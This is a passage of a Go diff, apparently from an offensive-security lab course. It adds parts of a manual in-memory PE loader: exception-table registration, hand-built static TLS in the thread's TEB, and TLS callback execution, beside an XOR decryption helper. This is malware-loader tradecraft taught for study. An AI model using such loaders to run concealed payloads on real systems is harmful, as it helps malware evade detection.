+		}
+	}
+	return nil
+}
+
+// registerFunctionTable hands the mapped image's RUNTIME_FUNCTION array to
+// RtlAddFunctionTable. The entries hold RVAs, so the base passed along is
+// the actual allocation base, and the array has to stay mapped until
+// deleteFunctionTable removes it again.
+func registerFunctionTable(dir pe.IMAGE_DATA_DIRECTORY, allocBase, allocSize uintptr) (uintptr, uint32, error) {
+	entrySize := unsafe.Sizeof(pe.IMAGE_RUNTIME_FUNCTION_ENTRY{})
+	table := allocBase + uintptr(dir.VirtualAddress)
+	count := uintptr(dir.Size) / entrySize
+	if count == 0 {
+		return 0, 0, fmt.Errorf("exception directory of %d bytes holds no entries", dir.Size)
+	}
+	if table+count*entrySize > allocBase+allocSize {
+		return 0, 0, fmt.Errorf("exception directory 0x%X (%d entries) is outside the image", table, count)
+	}
+	// RtlAddFunctionTable returns a BOOLEAN, so only AL is meaningful.
+	ret, _, callErr := procRtlAddFunctionTable.Call(table, count, allocBase)
+	if ret&0xFF == 0 {
+		return 0, 0, fmt.Errorf("RtlAddFunctionTable failed: %v", callErr)
+	}
+	return table, uint32(count), nil
+}
+
+// deleteFunctionTable undoes registerFunctionTable once the image is unloaded.
+func deleteFunctionTable(table uintptr) {
+	if ret, _, callErr := procRtlDeleteFunctionTable.Call(table); ret&0xFF == 0 {
+		log.Printf("[!] Warning: RtlDeleteFunctionTable failed: %v\n", callErr)
+		return
+	}
+	fmt.Println("[+] Exception table deregistered.")
+}
+
+// tlsSlot is the static TLS block handed to the mapped image on this thread.
+type tlsSlot struct {
+	slots uintptr // The ThreadLocalStoragePointer array the block was added to
+	index uint32  // Written to the image's _tls_index
+	block uintptr // This thread's copy of the TLS template
+}
+
+// allocateTLS does for the current thread what the loader does when it maps a
+// module with static TLS: it picks the next free TLS index, stores it at
+// AddressOfIndex, and fills a new slot in TEB.ThreadLocalStoragePointer with
+// a copy of the template followed by SizeOfZeroFill zero bytes.
+//
+// Threads created later don't get a block (the real loader allocates one on
+// every thread start), and loading another DLL with static TLS afterwards
+// makes ntdll rebuild the array without our slot. Both are fine for the lab.
+func allocateTLS(tlsDir *pe.IMAGE_TLS_DIRECTORY64, allocBase, allocSize uintptr) (*tlsSlot, error) {
+	start, end := uintptr(tlsDir.StartAddressOfRawData), uintptr(tlsDir.EndAddressOfRawData)
+	indexAddr := uintptr(tlsDir.AddressOfIndex)
+	if end < start || start < allocBase || end > allocBase+allocSize {
+		return nil, fmt.Errorf("TLS template 0x%X-0x%X is outside the image", start, end)
+	}
+	if indexAddr < allocBase || indexAddr+4 > allocBase+allocSize {
+		return nil, fmt.Errorf("TLS index address 0x%X is outside the image", indexAddr)
+	}
+
+	var tbi threadBasicInformation
+	status, _, _ := procNtQueryInformationThread.Call(uintptr(windows.CurrentThread()), ThreadBasicInformation,
+		uintptr(unsafe.Pointer(&tbi)), unsafe.Sizeof(tbi), 0)
+	if status != 0 {
+		return nil, fmt.Errorf("NtQueryInformationThread failed: NTSTATUS 0x%X", status)
+	}
+	tlsPointer := (*uintptr)(unsafe.Pointer(tbi.TebBaseAddress + TEB_THREAD_LOCAL_STORAGE_POINTER))
+
+	// VirtualAlloc returns zeroed memory, which takes care of the zero fill.
+	templateSize := end - start
+	blockSize := templateSize + uintptr(tlsDir.SizeOfZeroFill)
+	if blockSize == 0 {
+		blockSize = 1
+	}
+	block, err := windows.VirtualAlloc(0, blockSize, windows.MEM_RESERVE|windows.MEM_COMMIT, windows.PAGE_READWRITE)
+	if err != nil {
+		return nil, fmt.Errorf("failed to allocate TLS block: %w", err)
+	}
+	if templateSize != 0 {
+		copy(unsafe.Slice((*byte)(unsafe.Pointer(block)), templateSize), unsafe.Slice((*byte)(unsafe.Pointer(start)), templateSize))
+	}
+
+	// ntdll allocates the slot array from the process heap and frees it there
+	// when the thread exits, so the grown copy has to come from the same heap.
+	// The old array is left alone rather than freed under ntdll's feet.
+	ptrSize := unsafe.Sizeof(uintptr(0))
+	heap, _, _ := procGetProcessHeap.Call()
+	oldSlots := *tlsPointer
+	oldCount := uintptr(0)
+	if oldSlots != 0 {
+		if size, _, _ := procHeapSize.Call(heap, 0, oldSlots); size != ^uintptr(0) {
+			oldCount = size / ptrSize
+		}
+	}
+	newSlots, _, callErr := procHeapAlloc.Call(heap, HEAP_ZERO_MEMORY, (oldCount+1)*ptrSize)
+	if newSlots == 0 {
+		windows.VirtualFree(block, 0, windows.MEM_RELEASE)
+		return nil, fmt.Errorf("HeapAlloc for TLS slot array failed: %v", callErr)
+	}
+	slots := unsafe.Slice((*uintptr)(unsafe.Pointer(newSlots)), oldCount+1)
+	if oldCount != 0 {
+		copy(slots, unsafe.Slice((*uintptr)(unsafe.Pointer(oldSlots)), oldCount))
+	}
+	slots[oldCount] = block
+	*tlsPointer = newSlots
+	*(*uint32)(unsafe.Pointer(indexAddr)) = uint32(oldCount)
+
+	return &tlsSlot{slots: newSlots, index: uint32(oldCount), block: block}, nil
+}
+
+// free empties the slot and releases the block once the image is unloaded.
+func (s *tlsSlot) free() {
+	*(*uintptr)(unsafe.Pointer(s.slots + uintptr(s.index)*unsafe.Sizeof(uintptr(0)))) = 0
+	if err := windows.VirtualFree(s.block, 0, windows.MEM_RELEASE); err != nil {
+		log.Printf("[!] Warning: Failed to free TLS block: %v\n", err)
+	}
+}
+
+// tlsCallbacks reads the null-terminated array of callback VAs, which has
+// already been relocated to allocBase.
+func tlsCallbacks(tlsDir *pe.IMAGE_TLS_DIRECTORY64, allocBase, allocSize uintptr) ([]uintptr, error) {
+	var callbacks []uintptr
+	arrayAddr := uintptr(tlsDir.AddressOfCallBacks)
+	if arrayAddr == 0 {
+		return nil, nil
+	}
+	for entryAddr := arrayAddr; ; entryAddr += unsafe.Sizeof(uintptr(0)) {
+		if entryAddr < allocBase || entryAddr+unsafe.Sizeof(uintptr(0)) > allocBase+allocSize {
+			return nil, fmt.Errorf("callback array entry 0x%X is outside the image", entryAddr)
+		}
+		callback := *(*uintptr)(unsafe.Pointer(entryAddr))
+		if callback == 0 {
+			return callbacks, nil
+		}
+		if callback < allocBase || callback >= allocBase+allocSize {
+			return nil, fmt.Errorf("callback 0x%X is outside the image", callback)
+		}
+		callbacks = append(callbacks, callback)
+	}
+}
+
+// runTLSCallbacks calls each PIMAGE_TLS_CALLBACK(DllHandle, Reason, Reserved)
+// in array order, as the loader does for both attach and detach.
+func runTLSCallbacks(callbacks []uintptr, allocBase uintptr, reason uintptr) {
+	for i, callback := range callbacks {
+		fmt.Printf("    [->] TLS callback %d at 0x%X (RVA 0x%X), reason %d\n", i, callback, callback-allocBase, reason)
+		if _, _, callErr := syscall.SyscallN(callback, allocBase, reason, 0); callErr != 0 {
+			log.Printf("    [!] Warning: Syscall error during TLS callback %d: %v\n", i, callErr)
+		}
+	}
+}
+
 func xorEncryptDecrypt(data []byte, key []byte) []byte {
 	// ... (implementation from Lab 7.1) ...
 	keyBytes := []byte(key)